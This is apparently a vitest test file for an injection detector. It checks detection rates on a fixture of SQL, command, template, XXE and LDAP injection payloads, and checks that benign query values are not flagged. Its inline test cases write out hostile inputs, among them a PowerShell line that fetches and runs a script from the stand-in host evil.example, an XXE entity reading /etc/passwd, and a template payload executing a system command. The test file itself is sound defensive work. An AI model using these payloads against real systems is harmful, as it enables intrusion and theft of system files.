import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Signal } from '../../src/core/signal.js';
import { InjectionDetector } from '../../src/security/injection-detector.js';
import { isHeldOut } from './heldout.js';
import { corpus, ev, FIXTURES } from './helpers.js';

/** The tuned rows of `beyond/payloads.tsv` (the held-out third is scored only by `npm run bench:security`). */
const rows = readFileSync(join(FIXTURES, 'beyond/payloads.tsv'), 'utf8')
  .split('\n')
  .filter((l) => l.length > 0 && !l.startsWith('#'))
  .map((l) => ({ cls: l.slice(0, l.indexOf('\t')), text: l.slice(l.indexOf('\t') + 1) }));
const tuned = rows.filter((r) => !isHeldOut(r.text));

const fires = (d: InjectionDetector, attrs: Record<string, unknown>): Signal | undefined => {
  const out: Signal[] = [];
  d.observe(ev(attrs), out);
  return out[0];
};

describe('injection beyond the corpora (tuned split)', () => {
  it('keeps about a third of the rows held out, by the fixed hash', () => {
    expect(tuned.length / rows.length).toBeGreaterThan(0.55);
    expect(tuned.length / rows.length).toBeLessThan(0.8);
  });

  it.each(['sqli', 'cmdi', 'ssti', 'xxe', 'ldap'])('%s: at least 90%% of the tuned payloads are found as a query value', (cls) => {
    const d = new InjectionDetector();
    const mine = tuned.filter((r) => r.cls === cls);
    const missed = mine.filter((r) => fires(d, { 'url.query': `q=${r.text}` }) === undefined).map((r) => r.text);
    expect(mine.length).toBeGreaterThanOrEqual(5);
    expect(1 - missed.length / mine.length, missed.join('\n')).toBeGreaterThanOrEqual(0.9);
  });

  it.each([
    ['{{7*7}}', 'ssti'],
    ["${T(java.lang.Runtime).getRuntime().exec('id')}", 'ssti'],
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>', 'xxe'],
    ['*)(uid=*))(|(uid=*', 'ldap'],
    ["; w'h'o'am'i", 'cmdi'],
    ['& w^h^o^a^m^i', 'cmdi'],
    ['; IEX (iwr http://evil.example/p.ps1)', 'cmdi'],
    ['1 AND (CASE WHEN (1=1) THEN 1 ELSE 0 END)=1', 'sqli'],
  ])('%s is %s', (text, cls) => {
    const s = fires(new InjectionDetector(), { 'url.query': `q=${text}` });
    expect(s?.evidence.categories).toContain(cls);
  });

  it('stays quiet on placeholders, prose and real request values', () => {
    const d = new InjectionDetector();
    for (const v of [
      'name={{user.name}}',
      'tpl=${HOME}/x',
      'q=(a) or (b)',
      "msg=it's done",
      'q=<b>bold</b>',
      'q=what is 7*7?',
      'filter=(status=active)',
      'q=C# vs F#',
      'email=a@b.example',
      "q=don't stop",
    ]) {
      expect(fires(d, { 'url.query': v }), v).toBeUndefined();
    }
    const benign = corpus().filter((r) => r.label === 'benign' && r.cls !== 'benign_applog_synthetic' && r.cls !== 'benign_hard');
    const flagged = benign.filter((r) => fires(d, { 'url.query': r.text }) !== undefined);
    expect(flagged.length / benign.length).toBeLessThanOrEqual(0.002);
  });
});
